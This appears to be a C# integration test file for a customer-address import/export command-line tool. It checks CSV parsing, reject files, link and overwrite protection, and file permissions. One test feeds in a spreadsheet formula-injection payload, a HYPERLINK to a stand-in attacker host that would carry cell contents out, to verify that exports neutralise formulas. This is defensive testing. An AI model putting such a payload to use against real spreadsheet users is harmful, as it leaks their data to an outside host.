using System.Text;
using CustomerAddresses.Client.Testing;

namespace CustomerAddresses.Client.IntegrationTests;

/// <summary>
/// The packed tool with files as people have them and as an adversary would make them: a semicolon CSV from Excel with
/// its headers in another order, fixed and imported again; outputs that are the input; an export that fails over an
/// existing file; formulas in cells; bad headers and bytes. Nothing is clobbered, no formula runs, files are 0600.
/// </summary>
[Collection(nameof(PackedCliTool))]
public sealed class CliFileTests(PackedCliTool tool) : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("customeraddresses-files-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private string Write(string name, string text)
    {
        string path = Path.Combine(_directory, name);
        File.WriteAllText(path, text, new UTF8Encoding(true)); // Excel writes a byte order mark
        return path;
    }

    private static async Task<Dictionary<string, List<string>>> Server(CustomerAddressesEmulator emulator)
    {
        using var client = new CustomerAddressesClient(new CustomerAddressesClientOptions { BaseAddress = emulator.BaseAddress, Dialect = ApiDialect.PaddleBilling });
        var held = new Dictionary<string, List<string>>(StringComparer.Ordinal);
        await foreach (Customer c in client.Customers.ListAsync())
        {
            held[c.Email!] = [];
            await foreach (Address a in client.Addresses.ListAsync(c.Id))
            {
                held[c.Email!].Add($"{a.Country?.Value}/{a.City}");
            }
        }

        return held;
    }

    [Fact]
    public async Task A_semicolon_csv_with_headers_in_another_order_and_bad_rows_then_its_rejects_fixed_and_imported()
    {
        await using var emulator = await CustomerAddressesEmulator.StartAsync();
        string file = Write("excel.csv", "City;Country_Code;EMAIL;Name;Notes\r\nYork;GB;a@example.com;Ann;vip\r\nParis;ZZ;b@example.com;Bob;\r\nBonn;DE;c@example.com;Cy;\r\nLyon;QQ;d@example.com;Di;\r\n");

        (int first, string output, string error) = await tool.RunAsync(emulator.BaseAddress, _directory, "import", file, "--dialect", "paddle");
        string rejects = Path.Combine(_directory, "excel.rejects.csv");
        string[] rejected = File.ReadAllLines(rejects);
        File.WriteAllText(rejects, File.ReadAllText(rejects).Replace(";ZZ;", ";FR;", StringComparison.Ordinal).Replace(";QQ;", ";FR;", StringComparison.Ordinal));
        (int second, string secondOutput, string secondError) = await tool.RunAsync(emulator.BaseAddress, _directory, "import", rejects, "--dialect", "paddle");

        Assert.True(first == 1, output + error);
        Assert.Equal(1, error.Split('\n').Count(l => l.Contains("'notes'", StringComparison.Ordinal))); // named once, not once a row
        Assert.Equal("City;Country_Code;EMAIL;Name;Notes;line;reason", rejected[0]);
        Assert.StartsWith("Paris;ZZ;b@example.com;Bob;;3;", rejected[1], StringComparison.Ordinal);
        Assert.StartsWith("Lyon;QQ;d@example.com;Di;;5;", rejected[2], StringComparison.Ordinal);
        Assert.True(second == 0, secondOutput + secondError);
        Dictionary<string, List<string>> server = await Server(emulator);
        Assert.Equal(["GB/York"], server["a@example.com"]);
        Assert.Equal(["FR/Paris"], server["b@example.com"]);
        Assert.Equal(["FR/Lyon"], server["d@example.com"]);
        Assert.Equal(4, server.Count);
        if (!OperatingSystem.IsWindows())
        {
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(rejects));
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file + ".journal"));
        }
    }

    [Fact]
    public async Task An_input_edited_and_imported_again_imports_the_edit_and_says_what_changed()
    {
        await using var emulator = await CustomerAddressesEmulator.StartAsync();
        string file = Write("customers.csv", "email,country_code,city\na@example.com,GB,York\nb@example.com,GB,Leeds\n");
        await tool.RunAsync(emulator.BaseAddress, _directory, "import", file, "--dialect", "paddle");
        Write("customers.csv", "email,country_code,city\nnew@example.com,DE,Bonn\na@example.com,GB,York\nb@example.com,GB,Hull\n");

        (int code, string output, string error) = await tool.RunAsync(emulator.BaseAddress, _directory, "import", file, "--dialect", "paddle");

        Assert.True(code == 0, output + error);
        Assert.Contains("since the last run: 1 rows done before, 2 new, edited or not reached (imported now), 1 removed or edited", output, StringComparison.Ordinal);
        Dictionary<string, List<string>> server = await Server(emulator);
        Assert.Equal(["GB/Hull", "GB/Leeds"], server["b@example.com"].Order());
        Assert.Equal(["DE/Bonn"], server["new@example.com"]);
    }

    [Fact]
    public async Task An_output_that_is_the_input_by_path_symbolic_link_or_hard_link_is_refused_and_the_input_kept()
    {
        await using var emulator = await CustomerAddressesEmulator.StartAsync();
        string text = "email,country_code,city\na@example.com,ZZ,York\nb@example.com,GB,Leeds\n";
        string file = Write("in.csv", text);
        string symlink = Path.Combine(_directory, "sym.csv");
        File.CreateSymbolicLink(symlink, file);
        string hardlink = Path.Combine(_directory, "hard.csv");
        using (var ln = System.Diagnostics.Process.Start("ln", [file, hardlink]))
        {
            await ln.WaitForExitAsync();
        }

        foreach (string[] args in (string[][])[["--rejects", file], ["--rejects", symlink], ["--rejects", hardlink], ["--journal", hardlink], ["--journal", _directory], ["--journal="], ["--rejects="]])
        {
            (int code, string output, string error) = await tool.RunAsync(emulator.BaseAddress, _directory, ["import", file, "--dialect", "paddle", .. args]);
            Assert.True(code == 2, $"{string.Join(' ', args)}: exit {code}\n{output}\n{error}");
            Assert.Single(error.Trim().Split('\n'));
            Assert.DoesNotContain("   at ", error, StringComparison.Ordinal);
        }

        Assert.Equal(text, File.ReadAllText(file, Encoding.UTF8).TrimStart('\uFEFF'));
        Assert.Equal(0, emulator.Statistics.Requests);
    }

    [Fact]
    public async Task An_export_that_fails_leaves_the_file_it_would_replace_as_it_was()
    {
        await using var emulator = await CustomerAddressesEmulator.StartAsync(new CustomerAddressesEmulatorOptions { ApiKey = "pdl_sdbx_apikey_another_key" });
        string target = Write("export.csv", "precious,data\n1,2\n");

        (int code, _, string error) = await tool.RunAsync(emulator.BaseAddress, _directory, "export", "--out", target, "--format", "csv", "--dialect", "paddle");

        Assert.Equal(4, code); // authentication: the server refused the key
        Assert.Equal("precious,data\n1,2\n", File.ReadAllText(target, Encoding.UTF8).TrimStart('\uFEFF'));
        Assert.Equal(["export.csv"], Directory.GetFiles(_directory).Select(Path.GetFileName));
        Assert.DoesNotContain("pdl_sdbx_apikey", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Exported_cells_never_run_as_formulas_and_import_back_exactly()
    {
        await using var source = await CustomerAddressesEmulator.StartAsync();
        await using var target = await CustomerAddressesEmulator.StartAsync();
        string formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
        string ndjson = Path.Combine(_directory, "in.ndjson");
        File.WriteAllLines(ndjson, [
            $"{{\"email\":\"f@example.com\",\"name\":{System.Text.Json.JsonSerializer.Serialize(formula)},\"country_code\":\"GB\",\"city\":\"York\",\"description\":\"+1-555-0100\"}}",
            "{\"email\":\"g@example.com\",\"name\":\"'=kept\",\"country_code\":\"GB\",\"city\":\"@home\",\"description\":\"-5\"}",
        ]);
        await tool.RunAsync(source.BaseAddress, _directory, "import", ndjson, "--dialect", "paddle");
        string exported = Path.Combine(_directory, "out.csv");

        (int exportCode, _, string exportError) = await tool.RunAsync(source.BaseAddress, _directory, "export", "--out", exported, "--dialect", "paddle");
        string csv = File.ReadAllText(exported);
        (int importCode, string importOutput, string importError) = await tool.RunAsync(target.BaseAddress, _directory, "import", exported, "--dialect", "paddle", "--journal", Path.Combine(_directory, "t.journal"));

        Assert.True(exportCode == 0, exportError);
        foreach (string cell in csv.Split('\n').Skip(1).SelectMany(l => l.Split(',')))
        {
            string value = cell.TrimStart('"');
            Assert.False(value.Length > 0 && value[0] is '=' or '+' or '-' or '@', $"a cell a spreadsheet would run: {cell}");
        }

        Assert.True(importCode == 0, importOutput + importError);
        using var client = new CustomerAddressesClient(new CustomerAddressesClientOptions { BaseAddress = target.BaseAddress, Dialect = ApiDialect.PaddleBilling });
        var customers = new Dictionary<string, Customer>();
        await foreach (Customer c in client.Customers.ListAsync())
        {
            customers[c.Email!] = c;
        }

        Assert.Equal(formula, customers["f@example.com"].Name);
        Assert.Equal("'=kept", customers["g@example.com"].Name);
        Address f = await client.Addresses.ListAsync(customers["f@example.com"].Id).FirstAsync();
        Address g = await client.Addresses.ListAsync(customers["g@example.com"].Id).FirstAsync();
        Assert.Equal(("+1-555-0100", "-5", "@home"), (f.Description, g.Description, g.City));
        if (!OperatingSystem.IsWindows())
        {
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(exported));
        }
    }

    [Theory]
    [InlineData("email,name,name\na@example.com,A,B\n", "names 'name' twice")]
    [InlineData("name,city\nA,York\n", "no email column")]
    [InlineData("email,name\na@example.com,M\xfcller\n", "line 2 is not UTF-8")]
    public async Task A_file_problem_is_one_line_and_exit_code_2_before_anything_is_sent(string content, string expected)
    {
        await using var emulator = await CustomerAddressesEmulator.StartAsync();
        string file = Path.Combine(_directory, "bad.csv");
        File.WriteAllBytes(file, [.. content.Select(c => (byte)c)]);

        (int code, string output, string error) = await tool.RunAsync(emulator.BaseAddress, _directory, "import", file, "--dialect", "paddle");

        Assert.True(code == 2, $"exit {code}\n{output}\n{error}");
        Assert.Contains(expected, error, StringComparison.Ordinal);
        Assert.Single(error.Trim().Split('\n'));
        Assert.Equal(0, emulator.Statistics.Requests);
    }
}
